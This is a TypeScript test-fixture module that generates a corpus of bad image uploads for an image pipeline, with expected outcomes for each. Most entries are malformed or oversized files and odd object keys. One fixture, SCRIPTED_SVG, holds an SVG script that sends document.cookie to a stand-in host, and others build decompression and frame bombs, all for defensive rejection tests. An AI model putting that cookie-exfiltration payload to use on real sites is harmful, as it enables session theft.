import { createHash } from 'node:crypto';
import {
  animatedGif,
  animatedWebp,
  cmykJpeg,
  decompressionBombPng,
  fakeHeic,
  jpeg,
  png16,
  textAsJpeg,
  truncated,
  webp,
} from '@imgpipe/testing';

/** How a bad input must end: every stage done, the image refused, or either, but ended. */
export type BadInputOutcome = 'done' | 'rejected' | 'ended';

/** One upload of the bad-input corpus. */
export interface BadInput {
  readonly key: string;
  readonly what: string;
  readonly expect: BadInputOutcome;
  /** The bytes, made on demand (some are large); several for a key uploaded again. */
  readonly bodies: () => Promise<readonly Buffer[]>;
}

/** The byte limit's default is 50 MB; this is twice it. */
const HUNDRED_MB = 100 * 1024 * 1024;

/** An object key of exactly `bytes` UTF-8 bytes under `prefix`, ending `.jpg`. */
function keyOfBytes(prefix: string, bytes: number): string {
  return `${prefix}${'n'.repeat(bytes - Buffer.byteLength(prefix) - 4)}.jpg`;
}

const SCRIPTED_SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>fetch("https://example.com/"+document.cookie)</script><rect width="64" height="64" fill="red"/></svg>',
);

/**
 * The bad-input corpus of issue 10, generated here rather than committed: empty, cut short,
 * lying or hostile bytes, formats the services refuse, oversized ones, odd keys carrying
 * good images, and one key uploaded twice in a row with different bytes (the second must
 * win). Builders come from `@imgpipe/testing` where it has them.
 *
 * @example
 * for (const input of badInputs('bad/')) for (const body of await input.bodies()) await put(input.key, body);
 */
export function badInputs(prefix: string): BadInput[] {
  const photo = () => jpeg({ width: 640, height: 480, orientation: 6 });
  return [
    {
      key: `${prefix}zero-bytes.jpg`,
      what: 'zero bytes',
      expect: 'rejected',
      bodies: async () => [Buffer.alloc(0)],
    },
    {
      key: `${prefix}truncated.jpg`,
      what: 'truncated JPEG',
      expect: 'ended',
      bodies: async () => [truncated(await photo(), 0.5)],
    },
    {
      key: `${prefix}truncated.png`,
      what: 'truncated PNG',
      expect: 'ended',
      bodies: async () => [truncated(await png16({ width: 320, height: 240 }), 0.5)],
    },
    {
      key: `${prefix}truncated.webp`,
      what: 'truncated WebP',
      expect: 'ended',
      bodies: async () => [truncated(await webp({ width: 320, height: 240 }), 0.5)],
    },
    {
      key: `${prefix}text.jpg`,
      what: 'a text file named .jpg',
      expect: 'rejected',
      bodies: async () => [textAsJpeg()],
    },
    {
      key: `${prefix}script.svg`,
      what: 'SVG with a script',
      expect: 'rejected',
      bodies: async () => [SCRIPTED_SVG],
    },
    {
      key: `${prefix}50000x50000.png`,
      what: 'PNG whose header claims 50,000 × 50,000',
      expect: 'rejected',
      bodies: async () => [decompressionBombPng()],
    },
    {
      key: `${prefix}100MB.jpg`,
      what: 'a 100 MB file',
      expect: 'rejected',
      bodies: async () => {
        const big = Buffer.alloc(HUNDRED_MB);
        (await photo()).copy(big);
        return [big];
      },
    },
    {
      key: `${prefix}2000-frames.gif`,
      what: 'animated GIF with 2,000 frames',
      expect: 'rejected',
      bodies: async () => [await animatedGif({ frames: 2000 })],
    },
    {
      key: `${prefix}frame-bomb.webp`,
      what: 'frame-bomb WebP (2,000 frames)',
      expect: 'rejected',
      bodies: async () => [await animatedWebp({ frames: 2000 })],
    },
    {
      key: `${prefix}cmyk.jpg`,
      what: 'CMYK JPEG',
      expect: 'done',
      bodies: async () => [await cmykJpeg({ width: 320, height: 240 })],
    },
    {
      key: `${prefix}16-bit.png`,
      what: '16-bit PNG',
      expect: 'done',
      bodies: async () => [await png16({ width: 320, height: 240 })],
    },
    {
      key: `${prefix}corrupt.heic`,
      what: 'corrupt HEIC',
      expect: 'rejected',
      bodies: async () => [fakeHeic()],
    },
    {
      key: `${prefix}keys/with spaces in it.jpg`,
      what: 'key with spaces',
      expect: 'done',
      bodies: async () => [await photo()],
    },
    {
      key: `${prefix}keys/ünïcödé 東京 😀.jpg`,
      what: 'key with unicode',
      expect: 'done',
      bodies: async () => [await photo()],
    },
    {
      key: `${prefix}keys/a+b=c.jpg`,
      what: 'key with +',
      expect: 'done',
      bodies: async () => [await photo()],
    },
    {
      key: `${prefix}keys/100% real%20.jpg`,
      what: 'key with %',
      expect: 'done',
      bodies: async () => [await photo()],
    },
    // Its output keys (resized/<key>/…) pass S3's 1,024 bytes: a stage may refuse it, readably.
    {
      key: keyOfBytes(`${prefix}keys/`, 1000),
      what: '1,000-byte key',
      expect: 'ended',
      bodies: async () => [await photo()],
    },
    {
      key: `${prefix}uploaded-twice.jpg`,
      what: 'same key twice, other bytes',
      expect: 'done',
      bodies: async () => [
        await jpeg({ width: 320, height: 240, colour: { r: 200, g: 30, b: 30 } }),
        await jpeg({ width: 320, height: 240, colour: { r: 30, g: 30, b: 200 } }),
      ],
    },
  ];
}

/**
 * The SHA-256 a record keeps of the bytes it processed, to tell which upload won.
 *
 * @example
 * expect(record.image.sha256).toBe(sha256Hex(lastBody));
 */
export function sha256Hex(bytes: Uint8Array): string {
  return createHash('sha256').update(bytes).digest('hex');
}

/**
 * Whether a rejection reason is one a person can read: a sentence, not a stack trace or a
 * bare code.
 *
 * @example
 * isReadableReason('not an image: the bytes are plain text'); // true
 */
export function isReadableReason(reason: string): boolean {
  return reason.length >= 10 && /\s/.test(reason) && !/\n\s+at /.test(reason);
}
